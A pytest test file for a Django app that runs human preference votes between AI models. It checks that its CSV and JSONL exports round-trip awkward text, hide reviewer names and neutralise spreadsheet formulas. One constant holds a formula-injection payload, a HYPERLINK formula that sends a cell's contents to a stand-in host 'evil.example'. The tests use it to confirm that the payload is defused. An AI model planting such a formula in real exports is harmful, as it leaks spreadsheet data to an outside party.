"""Each export downloaded through the API and parsed back against the votes in the database."""

import csv
import io
import json
from datetime import UTC, datetime

import pytest

from arena.models import CampaignReviewer, Contestant, Prompt, Vote
from arena.reports.exports import VOTES_HEADER, reviewer_pseudonym
from tests.factories import add_reviewers, cast_vote, make_campaign, open_campaign

pytestmark = pytest.mark.django_db


def body(response) -> str:
    assert response.status_code == 200, response.content
    return b"".join(response.streaming_content).decode("utf-8")


@pytest.fixture
def voted(db):
    """Three models, 3 prompts (one a chat with a comma, quotes and a newline), 3 reviewers."""
    campaign = make_campaign(name='Exports, "quoted"', labels=("Alpha", "Beta", "Gamma"), prompts=3, k=3)
    Prompt.objects.filter(campaign=campaign, external_id="p2").update(text='Hello, "world"\nsecond line')
    Prompt.objects.filter(campaign=campaign, external_id="p3").update(
        text="", messages=[{"role": "user", "content": "Ünïcode question?"}]
    )
    comparisons = open_campaign(campaign)
    ann, bob, cat = add_reviewers(campaign, "ann", "bob", "cat")
    by_pair = {}
    for c in comparisons:
        by_pair.setdefault((c.contestant_a.label, c.contestant_b.label), []).append(c)
    ab, ac, bc = by_pair[("Alpha", "Beta")], by_pair[("Alpha", "Gamma")], by_pair[("Beta", "Gamma")]
    # Alpha-Beta prompt 1: unanimous for A -> a preference pair (agreement 1)
    for r, left in ((ann, True), (bob, False), (cat, True)):
        cast_vote(ab[0], r, "a", a_on_left=left, seconds=4.5)
    # Alpha-Beta prompt 2: B, B, tie -> a preference pair for B (agreement 2/3)
    cast_vote(ab[1], ann, "b", a_on_left=True)
    cast_vote(ab[1], bob, "b", a_on_left=False)
    cast_vote(ab[1], cat, "tie", a_on_left=True)
    # Alpha-Gamma prompt 1: reviewers disagree -> left out
    cast_vote(ac[0], ann, "a")
    cast_vote(ac[0], bob, "b")
    # Beta-Gamma prompt 1: all ties -> left out
    cast_vote(bc[0], ann, "tie")
    cast_vote(bc[0], bob, "both_bad")
    # Beta-Gamma prompt 3 (the chat): one vote for Gamma -> kept (agreement 1, 1 vote)
    cast_vote(bc[2], cat, "b", a_on_left=False, comment="clearer, shorter")
    # a repeat check (not counted) that disagrees with ann's first vote
    cast_vote(ab[0], ann, "b", kind="repeat", a_on_left=False)
    return campaign, (ann, bob, cat), (ab, ac, bc)


def test_votes_csv_has_one_row_per_vote_with_the_stored_values(client, lead, voted):
    campaign, (ann, _, _), _ = voted
    client.force_login(lead)
    response = client.get(f"/api/campaigns/{campaign.pk}/votes.csv")
    assert response["Content-Disposition"].startswith("attachment; filename=")
    text = body(response)
    reader = csv.DictReader(io.StringIO(text))
    assert reader.fieldnames == VOTES_HEADER
    rows = list(reader)
    votes = list(Vote.objects.filter(campaign=campaign).select_related("comparison__prompt").order_by("pk"))
    assert len(rows) == len(votes) == 12
    labels = dict(campaign.contestants.values_list("id", "label"))
    for row, vote in zip(rows, votes, strict=True):
        a, b = labels[vote.comparison.contestant_a_id], labels[vote.comparison.contestant_b_id]
        assert int(row["vote_id"]) == vote.pk
        assert int(row["comparison_id"]) == vote.comparison_id
        assert (row["model_a"], row["model_b"]) == (a, b)
        assert (row["left_model"], row["right_model"]) == ((a, b) if vote.a_on_left else (b, a))
        assert (row["choice"], row["resolved"]) == (vote.choice, vote.resolved)
        winner = {"a": a, "b": b}.get(vote.resolved, vote.resolved)
        assert row["winner"] == winner
        # the shown side and the resolved side agree
        if vote.choice == "left":
            assert row["winner"] == row["left_model"]
        if vote.choice == "right":
            assert row["winner"] == row["right_model"]
        assert row["counted"] == ("true" if vote.counted else "false")
        assert float(row["seconds_on_task"]) == vote.seconds_on_task
        assert row["voted_at"] == vote.created_at.isoformat()
        assert row["reviewer"] == reviewer_pseudonym(campaign_id=campaign.pk, user_id=vote.reviewer_id)
        assert row["prompt_id"] == vote.comparison.prompt.external_id
    # multi-line and quoted prompt text survives the round trip; chat prompts are JSON
    assert any(r["prompt"] == 'Hello, "world"\nsecond line' for r in rows)
    chat = next(r for r in rows if r["prompt_id"] == "p3")
    assert json.loads(chat["prompt"]) == [{"role": "user", "content": "Ünïcode question?"}]
    assert chat["comment"] == "clearer, shorter"
    # pseudonyms, never usernames
    assert "ann" not in {r["reviewer"] for r in rows}
    assert "ann" not in text and "bob" not in text
    assert sum(r["counted"] == "false" for r in rows) == 1


def test_votes_jsonl_matches_the_csv_and_flags_excluded_reviewers(client, lead, voted):
    campaign, (ann, _, _), _ = voted
    CampaignReviewer.objects.filter(campaign=campaign, user=ann).update(excluded=True)
    client.force_login(lead)
    lines = body(client.get(f"/api/campaigns/{campaign.pk}/votes.jsonl")).splitlines()
    records = [json.loads(line) for line in lines]
    assert len(records) == Vote.objects.filter(campaign=campaign).count()
    ann_id = reviewer_pseudonym(campaign_id=campaign.pk, user_id=ann.pk)
    assert {r["reviewer_excluded"] for r in records if r["reviewer"] == ann_id} == {True}
    assert {r["reviewer_excluded"] for r in records if r["reviewer"] != ann_id} == {False}
    assert sum(1 for r in records if r["reviewer"] == ann_id) == 5
    for record in records:
        vote = Vote.objects.get(pk=record["vote_id"])
        assert (record["choice"], record["resolved"], record["counted"]) == (vote.choice, vote.resolved, vote.counted)
        assert record["seconds_on_task"] == vote.seconds_on_task
    chat = next(r for r in records if r["prompt_id"] == "p3")
    assert chat["messages"] == [{"role": "user", "content": "Ünïcode question?"}]


def test_preferences_keep_only_comparisons_whose_reviewers_agree_on_a_side(client, lead, voted):
    campaign, _, (ab, _, bc) = voted
    client.force_login(lead)
    response = client.get(f"/api/campaigns/{campaign.pk}/preferences.jsonl")
    assert response["Content-Disposition"].endswith('preferences.jsonl"')
    records = [json.loads(line) for line in body(response).splitlines()]
    assert [r["comparison_id"] for r in records] == [ab[0].pk, ab[1].pk, bc[2].pk]
    first, second, chat = records
    assert first["chosen"] == ab[0].response_a.text and first["rejected"] == ab[0].response_b.text
    assert (first["chosen_model"], first["rejected_model"], first["votes"], first["agreement"]) == (
        "Alpha",
        "Beta",
        3,
        1.0,
    )
    assert second["chosen"] == ab[1].response_b.text and second["rejected"] == ab[1].response_a.text
    assert (second["votes"], second["chosen_votes"], second["agreement"]) == (3, 2, pytest.approx(2 / 3, abs=1e-6))
    assert second["prompt"] == 'Hello, "world"\nsecond line'
    assert chat["prompt"] == [{"role": "user", "content": "Ünïcode question?"}]
    assert chat["chosen_model"] == "Gamma"
    for record in records:
        assert set(record) >= {"prompt", "chosen", "rejected", "votes", "agreement"}
        assert record["chosen"] != record["rejected"]


def test_preferences_leave_out_excluded_reviewers(client, lead, voted):
    campaign, (ann, bob, _), (ab, ac, _) = voted
    # Without bob, Alpha-Gamma prompt 1 is ann's lone vote for Alpha: now a clear pair.
    CampaignReviewer.objects.filter(campaign=campaign, user=bob).update(excluded=True)
    client.force_login(lead)
    records = [
        json.loads(line) for line in body(client.get(f"/api/campaigns/{campaign.pk}/preferences.jsonl")).splitlines()
    ]
    by_id = {r["comparison_id"]: r for r in records}
    assert by_id[ac[0].pk]["chosen_model"] == "Alpha" and by_id[ac[0].pk]["votes"] == 1
    # ab[1] was B, B, tie; without bob it is B, tie: B has no strict majority, so it is dropped
    assert ab[1].pk not in by_id
    assert by_id[ab[0].pk]["votes"] == 2


def test_exports_of_a_campaign_without_votes_are_just_a_header_or_empty(client, lead):
    campaign = make_campaign(prompts=2)
    open_campaign(campaign)
    client.force_login(lead)
    assert body(client.get(f"/api/campaigns/{campaign.pk}/votes.csv")).splitlines() == [",".join(VOTES_HEADER)]
    assert body(client.get(f"/api/campaigns/{campaign.pk}/votes.jsonl")) == ""
    assert body(client.get(f"/api/campaigns/{campaign.pk}/preferences.jsonl")) == ""


def test_report_csv_rows_add_up_to_the_counted_votes(client, lead, voted):
    campaign, _, _ = voted
    client.force_login(lead)
    rows = list(csv.DictReader(io.StringIO(body(client.get(f"/api/campaigns/{campaign.pk}/report.csv")))))
    assert [(r["model_a"], r["model_b"]) for r in rows] == [("Alpha", "Beta"), ("Alpha", "Gamma"), ("Beta", "Gamma")]
    assert sum(int(r["votes"]) for r in rows) == Vote.objects.filter(campaign=campaign, counted=True).count() == 11
    for r in rows:
        assert int(r["votes"]) == sum(int(r[k]) for k in ("a_wins", "b_wins", "ties", "both_bad"))
    board = list(csv.DictReader(io.StringIO(body(client.get(f"/api/campaigns/{campaign.pk}/leaderboard.csv")))))
    assert len(board) == 3
    assert sum(int(r["wins"]) for r in board) == sum(int(r["losses"]) for r in board)
    assert sum(int(r["votes"]) for r in board) == 2 * 11


def hostile(voted):
    """Make the fixture's text as awkward for a CSV writer as it gets."""
    campaign, (ann, _, _), _ = voted
    Contestant.objects.filter(campaign=campaign, label="Alpha").update(label='Alpha, "the first"')
    Prompt.objects.filter(campaign=campaign, external_id="p1").update(
        text="carriage\r\nreturn, and ünïcode", category=""
    )
    Prompt.objects.filter(campaign=campaign, external_id="p3").update(
        messages=[{"role": "user", "content": 'Say "hi",\nplease \\ \t ✓'}, {"content": "x", "role": "assistant"}]
    )
    vote = Vote.objects.filter(campaign=campaign, reviewer=ann).order_by("pk").first()
    Vote.objects.filter(pk=vote.pk).update(
        created_at=datetime(2026, 3, 1, 12, 0, 0, tzinfo=UTC), comment='a "quoted"\rcomment', seconds_on_task=None
    )
    Vote.objects.filter(campaign=campaign).exclude(pk=vote.pk).filter(reviewer=ann).update(seconds_on_task=12.345)
    CampaignReviewer.objects.filter(campaign=campaign, user=ann).update(excluded=True)
    return campaign


def test_votes_csv_round_trips_commas_quotes_line_breaks_and_missing_values(client, lead, voted):
    campaign = hostile(voted)
    client.force_login(lead)
    rows = list(csv.DictReader(io.StringIO(body(client.get(f"/api/campaigns/{campaign.pk}/votes.csv")), newline="")))
    votes = list(Vote.objects.filter(campaign=campaign).select_related("comparison__prompt").order_by("pk"))
    assert len(rows) == len(votes) == 12
    excluded = set(CampaignReviewer.objects.filter(campaign=campaign, excluded=True).values_list("user_id", flat=True))
    for row, vote in zip(rows, votes, strict=True):
        prompt = vote.comparison.prompt
        expected_prompt = json.dumps(prompt.messages, ensure_ascii=False) if prompt.messages else prompt.text
        assert row["prompt"] == expected_prompt
        assert row["category"] == prompt.category
        assert row["comment"] == vote.comment
        assert row["seconds_on_task"] == ("" if vote.seconds_on_task is None else f"{vote.seconds_on_task:.3f}")
        assert row["voted_at"] == vote.created_at.isoformat()
        assert row["reviewer_excluded"] == ("true" if vote.reviewer_id in excluded else "false")
    assert any(r["model_a"] == 'Alpha, "the first"' for r in rows)
    assert any(r["voted_at"] == "2026-03-01T12:00:00+00:00" for r in rows)
    assert any(r["prompt"] == "carriage\r\nreturn, and ünïcode" for r in rows)


FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_text_that_a_spreadsheet_would_run_as_a_formula_is_neutralised_in_every_csv(client, lead):
    campaign = make_campaign(name="-Q3 support", labels=("@x", "Bee", "Cat"), prompts=2, categories=["\tbilling"])
    Prompt.objects.filter(campaign=campaign, external_id="p1").update(external_id="+cmd")
    comparisons = open_campaign(campaign)
    (ann,) = add_reviewers(campaign, "ann")
    for comparison in comparisons:
        # "@x" loses every vote: its rating on the leaderboard is negative.
        loser_is_a = comparison.contestant_a.label == "@x"
        cast_vote(comparison, ann, "b" if loser_is_a else "a", comment=FORMULA)
    client.force_login(lead)

    votes = list(csv.DictReader(io.StringIO(body(client.get(f"/api/campaigns/{campaign.pk}/votes.csv")), newline="")))
    assert len(votes) == len(comparisons)
    assert {v["comment"] for v in votes} == {"'" + FORMULA}
    assert {v["campaign"] for v in votes} == {"'-Q3 support"}
    assert {v["prompt_id"] for v in votes} == {"'+cmd", "p2"}
    assert {v["category"] for v in votes} == {"'\tbilling"}
    assert "'@x" in {v["model_a"] for v in votes} | {v["model_b"] for v in votes}
    assert "'@x" in {v["left_model"] for v in votes} | {v["right_model"] for v in votes}
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for v in votes for cell in v.values())

    report = list(csv.DictReader(io.StringIO(body(client.get(f"/api/campaigns/{campaign.pk}/report.csv")))))
    assert {r["campaign"] for r in report} == {"'-Q3 support"}
    assert "'@x" in {r["model_a"] for r in report}

    board = list(csv.DictReader(io.StringIO(body(client.get(f"/api/campaigns/{campaign.pk}/leaderboard.csv")))))
    loser = next(r for r in board if r["model"] == "'@x")
    # "@x" never won: its rating is not estimable (a number there would be the prior's), so
    # the rating and interval cells are empty rather than a large negative number. That a
    # negative computed number stays a number is checked in tests/test_style_report.py.
    assert (loser["rating"], loser["ci_low"], loser["ci_high"]) == ("", "", "")
    assert int(loser["losses"]) > 0 and int(loser["wins"]) == 0


def test_the_report_command_writes_the_same_neutralised_csv_files(lead, tmp_path):
    from django.core.management import call_command

    campaign = make_campaign(name="=1+1", labels=("@x", "Bee"), prompts=1)
    comparisons = open_campaign(campaign)
    (ann,) = add_reviewers(campaign, "ann")
    cast_vote(comparisons[0], ann, "a", comment="-2+3")
    paths = {name: tmp_path / f"{name}.csv" for name in ("csv", "leaderboard", "votes")}
    call_command(
        "report",
        campaign.pk,
        "--quiet",
        "--rounds=20",
        f"--csv={paths['csv']}",
        f"--leaderboard={paths['leaderboard']}",
        f"--votes-csv={paths['votes']}",
    )
    report = list(csv.DictReader(paths["csv"].open(newline="", encoding="utf-8")))
    assert (report[0]["campaign"], report[0]["model_a"]) == ("'=1+1", "'@x")
    board = list(csv.DictReader(paths["leaderboard"].open(newline="", encoding="utf-8")))
    assert "'@x" in {r["model"] for r in board}
    votes = list(csv.DictReader(paths["votes"].open(newline="", encoding="utf-8")))
    assert (votes[0]["campaign"], votes[0]["comment"], votes[0]["model_a"]) == ("'=1+1", "'-2+3", "'@x")
